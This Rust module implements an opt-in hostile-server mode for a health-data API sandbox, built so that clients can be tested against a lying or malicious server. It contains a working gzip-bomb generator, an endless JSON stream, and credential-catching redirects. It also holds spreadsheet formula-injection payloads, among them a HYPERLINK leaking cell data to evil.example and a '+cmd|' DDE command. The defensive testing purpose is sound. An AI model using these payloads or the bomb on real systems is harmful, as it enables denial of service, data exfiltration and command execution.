//! Hostile-server mode: a lying or broken JHE, so clients can prove over real HTTP that it cannot
//! widen a search, hang them, exhaust their memory, take their secrets elsewhere or plant
//! spreadsheet formulas in their files. Everything is off by default and switched per sandbox
//! ([`crate::Config::hostile`], [`crate::Sandbox::set_hostile`], `PUT /_sandbox/hostile` with
//! JSON, `--hostile JSON` on the command line).
//!
//! | Field | What the sandbox does |
//! | --- | --- |
//! | `foreignRows` | every FHIR Observation search page carries one extra row the search did not ask for: of another participant (`otherPatient`), another code (`otherCode`) or outside the `date` window (`outsideWindow`) |
//! | `nextDrop`, `nextSet` | `next` links (FHIR bundles and Admin pages) lose the named query parameters (`patient`, `code`, `date`, `_sort`, `patient._has:Group:member:_id`, `study_id`, …) or have them set to other values |
//! | `endlessPages` | paged answers always have a `next` link (page n + 1); `repeat` serves page 1's rows on every page, `empty` serves pages without rows after the first |
//! | `body` | data-API GETs (or those under `bodyPaths`) answer `gzipBomb` (`Content-Encoding: gzip`, ~1 MiB on the wire, `bombMib` MiB of zeros decompressed, default 1024) or `endless` (a JSON array that never ends) |
//! | `tokenRedirect`, `apiRedirect` | `POST /o/token/`, resp. data-API GETs, answer a redirect (`status` 302 or 307) to `to`: `otherOrigin` (the same sandbox under `localhost` ↔ `127.0.0.1`, path `/_sandbox/trap`), `http` (the same URL with `http://`, a downgrade for a client on https behind a proxy) or an absolute URL |
//! | `formulas` | text a client writes to files starts like a spreadsheet formula: patient names, identifiers, and the OMH `source_name`, `activity_name` and `datasheet_reference` (`=HYPERLINK(…)`, `+cmd|…`, `-2+3`, `@SUM(…)`, leading TAB or CR) |
//! | `expiresIn` | token responses carry this `expires_in` (any JSON value: `9223372036854775807`, `1e300`, `-1`); tokens still live `--token-lifetime` |
//! | `forbidConsents` | `GET /api/v1/patients/{id}/consents` answers 403 (a user who may list a study's participants but not see their consents) |
//! | `brokenRecords` | the first four rows of every observation page (FHIR search, Admin list) are broken, one way each: bytes that are not UTF-8 in the row, an OMH effective time in the year 0001, an OMH duration of 10^300 hours, an OMH header `schema_id` naming another type than the row's code |
//!
//! `/_sandbox/trap` answers every method with `{"trapped": true}` and counts the requests that
//! reached it, and those that carried a credential (an `Authorization` header or a
//! `client_secret` / `code_verifier` / `refresh_token` in the body) — see [`HostileStats`].

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{header, HeaderMap, HeaderValue, Method, StatusCode, Uri};
use axum::middleware::Next;
use axum::response::{IntoResponse, Response};
use base64::Engine;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::http::{base_url, json_response, py_urlencode, query_pairs, typed, with_header};
use crate::store::Query;
use crate::AppState;

/// Which rows a lying search adds.
#[derive(Clone, Copy, Debug, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub enum ForeignRows {
    OtherPatient,
    OtherCode,
    OutsideWindow,
}

/// Paging that never ends.
#[derive(Clone, Copy, Debug, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub enum EndlessPages {
    /// Every page repeats the first page's rows.
    Repeat,
    /// Pages after the first have no rows.
    Empty,
}

/// A body meant to exhaust the client.
#[derive(Clone, Copy, Debug, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub enum HostileBody {
    GzipBomb,
    Endless,
}

/// Where a hostile redirect points.
#[derive(Clone, Debug, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub enum RedirectTo {
    /// The same sandbox under another origin (`localhost` ↔ `127.0.0.1`), path `/_sandbox/trap`.
    OtherOrigin,
    /// The requested URL with `http://`.
    Http,
    /// Any absolute URL.
    Url(String),
}

#[derive(Clone, Debug, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct Redirect {
    /// 302 or 307 (any 3xx is sent as given).
    pub status: u16,
    pub to: RedirectTo,
}

/// The hostile behaviours; `Hostile::default()` is an honest server.
#[derive(Clone, Debug, Default, Serialize, Deserialize, PartialEq)]
#[serde(default, rename_all = "camelCase")]
pub struct Hostile {
    pub foreign_rows: Option<ForeignRows>,
    /// Query parameters `next` links lose.
    pub next_drop: Vec<String>,
    /// Query parameters `next` links carry with another value.
    pub next_set: BTreeMap<String, String>,
    pub endless_pages: Option<EndlessPages>,
    pub body: Option<HostileBody>,
    /// Path prefixes `body` applies to; empty = `/api/v1/` and `/FHIR/R5/`.
    pub body_paths: Vec<String>,
    /// Decompressed size of the gzip bomb in MiB (0 = 1024).
    pub bomb_mib: u32,
    pub token_redirect: Option<Redirect>,
    pub api_redirect: Option<Redirect>,
    pub formulas: bool,
    pub expires_in: Option<Value>,
    pub broken_records: bool,
    pub forbid_consents: bool,
}

impl Hostile {
    pub fn any(&self) -> bool {
        *self != Hostile::default()
    }
    fn rewrites_json(&self) -> bool {
        self.foreign_rows.is_some()
            || !self.next_drop.is_empty()
            || !self.next_set.is_empty()
            || self.endless_pages.is_some()
            || self.formulas
            || self.expires_in.is_some()
            || self.broken_records
    }
}

/// What reached `/_sandbox/trap`.
#[derive(Default, Debug)]
pub struct HostileStats {
    pub trapped: AtomicU64,
    pub trapped_with_credentials: AtomicU64,
}

/// `/_sandbox/trap`: where hostile redirects point.
pub async fn trap(
    State(st): State<Arc<AppState>>,
    headers: HeaderMap,
    body: axum::body::Bytes,
) -> Response {
    st.hostile_stats.trapped.fetch_add(1, Ordering::Relaxed);
    let text = String::from_utf8_lossy(&body);
    let secret = headers.contains_key(header::AUTHORIZATION)
        || ["client_secret", "code_verifier", "refresh_token"]
            .iter()
            .any(|k| text.contains(k));
    if secret {
        st.hostile_stats
            .trapped_with_credentials
            .fetch_add(1, Ordering::Relaxed);
    }
    json_response(StatusCode::OK, &json!({"trapped": true}))
}

fn is_data_api(path: &str) -> bool {
    path.starts_with("/api/v1/") || path.starts_with("/FHIR/R5")
}

/// The middleware: applies the switched-on behaviours around the honest handlers.
pub async fn apply(State(st): State<Arc<AppState>>, mut req: Request, next: Next) -> Response {
    let h = st.hostile.read().clone();
    let path = req.uri().path().to_string();
    if !h.any() || path.starts_with("/_sandbox/") {
        return next.run(req).await;
    }
    let get = req.method() == Method::GET;
    let token = path == "/o/token/" && req.method() == Method::POST;
    if let Some(r) = h.token_redirect.as_ref().filter(|_| token) {
        return redirect(r, req.headers(), req.uri());
    }
    if let Some(r) = h
        .api_redirect
        .as_ref()
        .filter(|_| get && is_data_api(&path))
    {
        return redirect(r, req.headers(), req.uri());
    }
    if h.forbid_consents
        && get
        && path.starts_with("/api/v1/patients/")
        && path.ends_with("/consents")
    {
        return crate::http::detail(
            StatusCode::FORBIDDEN,
            "You do not have permission to perform this action.",
        );
    }
    let body_here = if h.body_paths.is_empty() {
        is_data_api(&path)
    } else {
        h.body_paths.iter().any(|p| path.starts_with(p.as_str()))
    };
    if let Some(b) = h.body.filter(|_| get && body_here) {
        return match b {
            HostileBody::GzipBomb => gzip_bomb(if h.bomb_mib == 0 { 1024 } else { h.bomb_mib }),
            HostileBody::Endless => endless_body(),
        };
    }
    if !h.rewrites_json() || !(get && is_data_api(&path) || token) {
        return next.run(req).await;
    }
    let base = base_url(req.headers());
    let pairs = query_pairs(req.uri().query());
    let page_param = if path.starts_with("/FHIR/") {
        "_page"
    } else {
        "page"
    };
    let page: usize = pairs
        .iter()
        .find(|(k, _)| k == page_param)
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(1);
    if h.endless_pages.is_some() && page > 1 {
        // The honest handler serves page 1; the lie is that there is always more.
        let kept: Vec<(String, String)> = pairs
            .iter()
            .filter(|(k, _)| k != page_param)
            .cloned()
            .collect();
        let q = py_urlencode(&kept);
        let pq = if q.is_empty() {
            path.clone()
        } else {
            format!("{path}?{q}")
        };
        if let Ok(u) = pq.parse::<Uri>() {
            *req.uri_mut() = u;
        }
    }
    let resp = next.run(req).await;
    let is_json = resp
        .headers()
        .get(header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("application/json"));
    if !is_json || !resp.status().is_success() {
        return resp;
    }
    let (mut parts, body) = resp.into_parts();
    let Ok(bytes) = axum::body::to_bytes(body, usize::MAX).await else {
        return (StatusCode::INTERNAL_SERVER_ERROR, "").into_response();
    };
    let Ok(mut v) = serde_json::from_slice::<Value>(&bytes) else {
        return Response::from_parts(parts, Body::from(bytes));
    };
    if token {
        if let (Some(e), Some(obj)) = (&h.expires_in, v.as_object_mut()) {
            obj.insert("expires_in".into(), e.clone());
        }
    } else {
        if path == "/FHIR/R5/Observation" {
            if let Some(kind) = h.foreign_rows {
                add_foreign_row(&st, kind, &pairs, page, &mut v);
            }
        }
        if let Some(mode) = h.endless_pages {
            let link = page_link(&base, &path, &pairs, page_param, page + 1);
            endless(&mut v, mode, page, link);
        }
        if !h.next_drop.is_empty() || !h.next_set.is_empty() {
            rewrite_next(&mut v, &h);
        }
        if h.formulas {
            formulas(&mut v, "");
        }
        if h.broken_records && (path == "/FHIR/R5/Observation" || path == "/api/v1/observations") {
            break_records(&mut v);
        }
    }
    parts.headers.remove(header::CONTENT_LENGTH);
    let mut out = serde_json::to_vec(&v).unwrap_or_default();
    if h.broken_records {
        out = not_text(&out);
    }
    Response::from_parts(parts, Body::from(out))
}

/// `brokenRecords`: text put into a row and sent as bytes that are not UTF-8.
const NOT_TEXT_MARK: &str = "\u{E000}not-text\u{E000}";

/// `body` with every [`NOT_TEXT_MARK`] replaced by the bytes `FF FE` (never valid UTF-8).
fn not_text(body: &[u8]) -> Vec<u8> {
    let mark = NOT_TEXT_MARK.as_bytes();
    let mut out = Vec::with_capacity(body.len());
    let mut i = 0;
    while i < body.len() {
        if body[i..].starts_with(mark) {
            out.extend_from_slice(&[0xff, 0xfe]);
            i += mark.len();
        } else {
            out.push(body[i]);
            i += 1;
        }
    }
    out
}

/// Breaks the first four rows of an observation page, one way each (see the module table).
fn break_records(v: &mut Value) {
    let fhir = v.get("resourceType").is_some();
    let rows: Vec<&mut Value> = if fhir {
        v.get_mut("entry")
            .and_then(Value::as_array_mut)
            .map(|a| a.iter_mut().filter_map(|e| e.get_mut("resource")).collect())
            .unwrap_or_default()
    } else {
        v.get_mut("results")
            .and_then(Value::as_array_mut)
            .map(|a| a.iter_mut().collect())
            .unwrap_or_default()
    };
    for (i, row) in rows.into_iter().take(4).enumerate() {
        if i == 0 {
            row[if fhir { "status" } else { "codingText" }] = NOT_TEXT_MARK.into();
            continue;
        }
        with_omh(row, fhir, |omh| {
            let frame = &mut omh["body"]["effective_time_frame"];
            let start = frame
                .get("date_time")
                .or_else(|| frame.pointer("/time_interval/start_date_time"))
                .cloned()
                .unwrap_or_else(|| json!("2026-01-01T00:00:00Z"));
            match i {
                1 => *frame = json!({"date_time": "0001-01-01T00:00:00Z"}),
                2 => {
                    *frame = json!({"time_interval": {"start_date_time": start,
                                                       "duration": {"value": 1e300, "unit": "h"}}})
                }
                _ => {
                    let name = &mut omh["header"]["schema_id"]["name"];
                    *name = if *name == "heart-rate" {
                        json!("step-count")
                    } else {
                        json!("heart-rate")
                    };
                }
            }
        });
    }
}

/// Runs `f` on a row's OMH data point: the FHIR attachment (base64) or the Admin `omhData`.
fn with_omh(row: &mut Value, fhir: bool, f: impl FnOnce(&mut Value)) {
    if !fhir {
        if let Some(omh) = row.get_mut("omhData").filter(|o| o.is_object()) {
            f(omh);
        }
        return;
    }
    let Some(data) = row.pointer_mut("/valueAttachment/data") else {
        return;
    };
    let b64 = &base64::engine::general_purpose::STANDARD;
    let decoded = data
        .as_str()
        .and_then(|d| b64.decode(d).ok())
        .and_then(|b| serde_json::from_slice::<Value>(&b).ok());
    if let Some(mut omh) = decoded {
        f(&mut omh);
        *data = Value::String(b64.encode(omh.to_string()));
    }
}

fn redirect(r: &Redirect, headers: &HeaderMap, uri: &Uri) -> Response {
    let base = base_url(headers);
    let pq = uri.path_and_query().map(|p| p.as_str()).unwrap_or("/");
    let location = match &r.to {
        RedirectTo::OtherOrigin => {
            let other = if base.contains("://localhost") {
                base.replacen("://localhost", "://127.0.0.1", 1)
            } else {
                base.replacen("://127.0.0.1", "://localhost", 1)
            };
            format!("{other}/_sandbox/trap")
        }
        RedirectTo::Http => {
            let host = base
                .split_once("://")
                .map(|(_, h)| h)
                .unwrap_or(base.as_str());
            format!("http://{host}{pq}")
        }
        RedirectTo::Url(u) => u.clone(),
    };
    let status = StatusCode::from_u16(r.status).unwrap_or(StatusCode::FOUND);
    with_header((status, "").into_response(), header::LOCATION, &location)
}

/// A gzip member whose deflate stream repeats one sync-flushed block of 1 MiB of zeros.
fn gzip_bomb(mib: u32) -> Response {
    use flate2::{Compress, Compression, Crc, FlushCompress};
    static BLOCK: std::sync::OnceLock<(Vec<u8>, Crc)> = std::sync::OnceLock::new();
    let (block, crc1) = BLOCK.get_or_init(|| {
        let zeros = vec![0u8; 1 << 20];
        let mut c = Compress::new(Compression::best(), false);
        let mut out = Vec::with_capacity(1 << 16);
        let _ = c.compress_vec(&zeros, &mut out, FlushCompress::Sync);
        let mut crc = Crc::new();
        crc.update(&zeros);
        (out, crc)
    });
    let mut crc = Crc::new();
    for _ in 0..mib {
        crc.combine(crc1);
    }
    let mut body = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    body.reserve(block.len() * mib as usize + 16);
    for _ in 0..mib {
        body.extend_from_slice(block);
    }
    // A final, empty stored block, then CRC-32 and size (mod 2^32).
    body.extend_from_slice(&[0x01, 0x00, 0x00, 0xff, 0xff]);
    body.extend_from_slice(&crc.sum().to_le_bytes());
    body.extend_from_slice(&((u64::from(mib) << 20) as u32).to_le_bytes());
    (
        StatusCode::OK,
        [
            (
                header::CONTENT_TYPE,
                HeaderValue::from_static("application/json"),
            ),
            (header::CONTENT_ENCODING, HeaderValue::from_static("gzip")),
        ],
        body,
    )
        .into_response()
}

/// A JSON array that never ends (chunked, no length).
fn endless_body() -> Response {
    let head = futures_util::stream::once(async {
        Ok::<bytes::Bytes, std::io::Error>(bytes::Bytes::from_static(b"{\"count\":1,\"results\":["))
    });
    static ROWS: std::sync::OnceLock<bytes::Bytes> = std::sync::OnceLock::new();
    let chunk = ROWS
        .get_or_init(|| bytes::Bytes::from(b"{\"id\":1,\"omhData\":{}},".repeat(1400)))
        .clone();
    let rows = futures_util::stream::repeat_with(move || {
        Ok::<bytes::Bytes, std::io::Error>(chunk.clone())
    });
    use futures_util::StreamExt;
    typed(
        StatusCode::OK,
        "application/json",
        Body::from_stream(head.chain(rows)),
    )
}

fn page_link(
    base: &str,
    path: &str,
    pairs: &[(String, String)],
    param: &str,
    page: usize,
) -> String {
    let mut p: Vec<(String, String)> = pairs.iter().filter(|(k, _)| k != param).cloned().collect();
    p.push((param.to_string(), page.to_string()));
    format!("{base}{path}?{}", py_urlencode(&p))
}

/// The `next` link of a FHIR bundle or an Admin page, wherever it is.
fn next_link_mut(v: &mut Value) -> Option<&mut Value> {
    if v.get("resourceType").is_some() {
        v.get_mut("link")?
            .as_array_mut()?
            .iter_mut()
            .find(|l| l["relation"] == "next")
            .and_then(|l| l.get_mut("url"))
    } else {
        v.get_mut("next")
    }
}

fn endless(v: &mut Value, mode: EndlessPages, page: usize, link: String) {
    let fhir = v.get("resourceType").is_some();
    let rows_key = if fhir { "entry" } else { "results" };
    if v.get(rows_key).is_none() {
        return;
    }
    if mode == EndlessPages::Empty && page > 1 {
        v[rows_key] = json!([]);
    }
    match next_link_mut(v) {
        Some(n) => *n = Value::String(link),
        None if fhir => {
            if let Some(links) = v.get_mut("link").and_then(Value::as_array_mut) {
                links.push(json!({"relation": "next", "url": link}));
            }
        }
        None => v["next"] = Value::String(link),
    }
}

fn rewrite_next(v: &mut Value, h: &Hostile) {
    let Some(Value::String(url)) = next_link_mut(v) else {
        return;
    };
    let (head, query) = url.split_once('?').unwrap_or((url.as_str(), ""));
    let mut pairs: Vec<(String, String)> = query_pairs(Some(query))
        .into_iter()
        .filter(|(k, _)| !h.next_drop.contains(k) && !h.next_set.contains_key(k))
        .collect();
    pairs.extend(h.next_set.iter().map(|(k, v)| (k.clone(), v.clone())));
    let q = py_urlencode(&pairs);
    *url = if q.is_empty() {
        head.to_string()
    } else {
        format!("{head}?{q}")
    };
}

/// One row the search did not ask for, appended to the page's entries.
fn add_foreign_row(
    st: &AppState,
    kind: ForeignRows,
    pairs: &[(String, String)],
    page: usize,
    v: &mut Value,
) {
    let Some(entries) = v.get_mut("entry").and_then(Value::as_array_mut) else {
        return;
    };
    let world = st.world.read();
    let store = st.store.read();
    let get = |k: &str| crate::http::first(pairs, k);
    let study = get("patient._has:Group:member:_id")
        .and_then(|s| s.parse::<u32>().ok())
        .and_then(|s| world.study(s));
    let all_patients: Vec<u32> = world.patients.iter().map(|p| p.id).collect();
    let patients: Vec<u32> = match (get("patient").and_then(|p| p.parse::<u32>().ok()), study) {
        (Some(p), _) => vec![p],
        (None, Some(s)) => s.patients.iter().map(|(_, p)| *p).collect(),
        (None, None) => all_patients.clone(),
    };
    let code_scope = get("code")
        .and_then(|c| c.split_once('|'))
        .and_then(|(sys, c)| world.scope_by_code(sys, c))
        .map(|s| s.id);
    let scopes: Option<Vec<u32>> = match (code_scope, study) {
        (Some(c), _) => Some(vec![c]),
        (None, Some(s)) => Some(world.study_scope_ids(s)),
        (None, None) => None,
    };
    let dates: Vec<_> = pairs
        .iter()
        .filter(|(k, _)| k == "date")
        .filter_map(|(_, d)| crate::time::parse_prefixed(d).ok())
        .collect();
    let q = match kind {
        ForeignRows::OtherPatient => Query {
            patients: all_patients
                .into_iter()
                .filter(|p| !patients.contains(p))
                .collect(),
            scopes,
            ..Default::default()
        },
        ForeignRows::OtherCode => Query {
            patients,
            scopes: Some(
                world
                    .scopes
                    .iter()
                    .map(|s| s.id)
                    .filter(|id| scopes.as_ref().is_none_or(|list| !list.contains(id)))
                    .collect(),
            ),
            ..Default::default()
        },
        ForeignRows::OutsideWindow => Query {
            patients,
            scopes,
            ..Default::default()
        },
    };
    let hits = store.search(&q);
    let outside = |i: &u32| {
        let t = store.row(*i).eff_start_us;
        kind != ForeignRows::OutsideWindow || !dates.iter().all(|(cmp, b)| b.test(*cmp, t))
    };
    let candidates: Vec<u32> = hits.iter().copied().filter(outside).take(page).collect();
    if let Some(i) = candidates.last() {
        let row = crate::fhir::observation_resource(&world, store.row(*i));
        entries.push(json!({"resource": row}));
    }
}

/// The i-th formula payload around a text.
fn payload(text: &str) -> String {
    let i = text
        .bytes()
        .fold(0usize, |a, b| a.wrapping_mul(31).wrapping_add(b as usize));
    match i % 6 {
        0 => format!("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"{text}\")"),
        1 => format!("+cmd|' /C calc'!A0 {text}"),
        2 => format!("-2+3 {text}"),
        3 => format!("@SUM(1+1)*cmd|' /C calc'!A0 {text}"),
        4 => format!("\t={text}"),
        _ => format!("\r={text}"),
    }
}

const NAME_KEYS: [&str; 6] = [
    "nameFamily",
    "nameGiven",
    "family",
    "firstName",
    "lastName",
    "given",
];
const OMH_TEXT_KEYS: [&str; 3] = ["source_name", "activity_name", "datasheet_reference"];

/// Formula payloads in names, identifier values and OMH text, also inside base64 attachments.
fn formulas(v: &mut Value, key: &str) {
    match v {
        Value::String(s)
            if NAME_KEYS.contains(&key)
                || OMH_TEXT_KEYS.contains(&key)
                || key == "identifier.value" =>
        {
            *s = payload(s);
        }
        Value::Array(a) => a.iter_mut().for_each(|x| formulas(x, key)),
        Value::Object(m) => {
            let is_attachment =
                m.get("contentType").and_then(Value::as_str) == Some("application/json");
            for (k, x) in m.iter_mut() {
                let child = if (key == "identifier" || key == "identifiers") && k == "value" {
                    "identifier.value"
                } else {
                    k.as_str()
                };
                if is_attachment && k == "data" {
                    let decoded = x
                        .as_str()
                        .and_then(|d| base64::engine::general_purpose::STANDARD.decode(d).ok())
                        .and_then(|b| serde_json::from_slice::<Value>(&b).ok());
                    if let Some(mut omh) = decoded {
                        formulas(&mut omh, "");
                        *x = Value::String(
                            base64::engine::general_purpose::STANDARD.encode(omh.to_string()),
                        );
                    }
                    continue;
                }
                formulas(x, child);
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_look_like_formulas() {
        let starts: std::collections::HashSet<char> = [
            "Nguyen", "May", "abc123", "E1234", "walking", "Dexcom", "x", "yy",
        ]
        .iter()
        .map(|t| payload(t).chars().next().unwrap_or(' '))
        .collect();
        assert!(starts.iter().all(|c| "=+-@\t\r".contains(*c)), "{starts:?}");
        assert!(starts.len() >= 3, "{starts:?}");
    }

    #[test]
    fn broken_text_is_sent_as_bytes_that_are_not_utf8() {
        let body =
            serde_json::to_vec(&json!({"status": NOT_TEXT_MARK, "x": "é"})).unwrap_or_default();
        let sent = not_text(&body);
        assert!(std::str::from_utf8(&sent).is_err());
        assert_eq!(
            String::from_utf8_lossy(&sent),
            "{\"status\":\"\u{FFFD}\u{FFFD}\",\"x\":\"é\"}"
        );
    }

    #[test]
    fn next_links_lose_what_they_are_told() {
        let mut v = json!({"count": 3, "next": "http://h/api/v1/observations?page=2&page_size=1&study_id=30006", "results": []});
        let h = Hostile {
            next_drop: vec!["study_id".into()],
            next_set: [("page_size".to_string(), "1000".to_string())].into(),
            ..Default::default()
        };
        rewrite_next(&mut v, &h);
        assert_eq!(
            v["next"],
            "http://h/api/v1/observations?page=2&page_size=1000"
        );
    }
}
